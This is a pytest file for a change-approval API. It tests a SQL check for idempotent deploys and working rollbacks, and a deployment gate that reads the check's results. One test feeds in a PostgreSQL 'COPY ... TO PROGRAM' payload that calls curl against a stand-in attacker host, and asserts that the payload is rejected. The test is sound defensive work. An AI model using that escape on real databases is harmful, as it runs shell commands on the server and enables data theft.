"""The SQL check attached to a change, and the gate reading it (seed 000: idempotent SQL, tested rollback)."""

from __future__ import annotations

import pytest

from test_changes_api import full_change, ok

SCHEMA = ("CREATE TABLE work_orders (id INTEGER PRIMARY KEY, line TEXT NOT NULL, due DATE);\n"
          "INSERT INTO work_orders VALUES (1, 'line-1', '2026-12-01');\n")
GOOD_DEPLOY = "CREATE INDEX IF NOT EXISTS ix_work_orders_due ON work_orders (due);\n"
GOOD_ROLLBACK = "DROP INDEX IF EXISTS ix_work_orders_due;\n"
NOT_IDEMPOTENT = "INSERT INTO work_orders (line, due) VALUES ('line-2', '2026-12-02');\n"
FORGETFUL_ROLLBACK = "SELECT 1;\n"


def body(engine: str, deploy: str, rollback: str) -> dict:
    return {"engine": engine, "schema_sql": {"name": "schema.sql", "text": SCHEMA},
            "deploy": {"name": "deploy.sql", "text": deploy}, "rollback": {"name": "rollback.sql", "text": rollback}}


def rules(verdict: dict) -> dict[str, str]:
    return {r["rule"]: r["status"] for r in verdict["results"]}


@pytest.mark.parametrize("engine", ["sqlite", "postgresql"])
def test_a_passing_check_is_evidence_the_gate_reads(as_, engine):
    dana, pipeline = as_("dana.dev"), as_("ci-pipeline")
    ref = ok(dana.post("/changes", json=full_change(category="data")), 201)["ref"]
    before = rules(ok(pipeline.post(f"/changes/{ref}/gate", json={"environment": "prod"})))
    assert before["idempotent_sql"] == "not_assessed" and before["rollback"] == "fail"
    report = ok(dana.post(f"/changes/{ref}/sql-check", json=body(engine, GOOD_DEPLOY, GOOD_ROLLBACK)))
    assert report["passed"] is True and report["engine"] == engine
    change = ok(dana.get(f"/changes/{ref}"))
    assert sorted(e["kind"] for e in change["evidence"]) == ["sql_check", "sql_deploy", "sql_rollback", "sql_schema"]
    after = rules(ok(pipeline.post(f"/changes/{ref}/gate", json={"environment": "prod"})))
    assert after["idempotent_sql"] == "pass" and after["rollback"] == "pass"
    history = [e["action"] for e in ok(dana.get(f"/changes/{ref}/history"))]
    assert "sql.checked" in history


def test_failures_reach_the_gate_and_editing_a_script_makes_the_check_stale(as_):
    dana, pipeline = as_("dana.dev"), as_("ci-pipeline")
    ref = ok(dana.post("/changes", json=full_change(category="data")), 201)["ref"]
    report = ok(dana.post(f"/changes/{ref}/sql-check", json=body("sqlite", NOT_IDEMPOTENT, FORGETFUL_ROLLBACK)))
    assert report["passed"] is False
    assert report["properties"]["idempotent"]["verdict"] == "fail"
    assert report["properties"]["reversible"]["verdict"] == "fail"
    verdict = ok(pipeline.post(f"/changes/{ref}/gate", json={"environment": "prod"}))
    failed = {r["rule"]: r["message"] for r in verdict["results"] if r["status"] == "fail"}
    assert "idempotent_sql" in failed and "rollback" in failed
    assert "work_orders" in failed["rollback"]  # the difference is named
    # A new deploy script attached after the check: the old result no longer counts.
    ok(dana.post(f"/changes/{ref}/evidence", files={"file": ("deploy.sql", GOOD_DEPLOY.encode(), "application/sql")},
                 data={"kind": "sql_deploy"}), 201)
    stale = {r["rule"]: r for r in ok(pipeline.post(f"/changes/{ref}/gate", json={"environment": "prod"}))["results"]}
    assert stale["idempotent_sql"]["status"] == "not_assessed" and "changed after" in stale["idempotent_sql"]["message"]


def test_unparsable_or_escaping_sql_is_a_usage_error_and_attaches_nothing(as_):
    dana = as_("dana.dev")
    ref = ok(dana.post("/changes", json=full_change()), 201)["ref"]
    r = dana.post(f"/changes/{ref}/sql-check",
                  json=body("postgresql", "COPY work_orders TO PROGRAM 'curl evil.example';\n", GOOD_ROLLBACK))
    assert r.status_code == 422 and r.json()["field"] == "deploy"
    assert ok(dana.get(f"/changes/{ref}"))["evidence"] == []
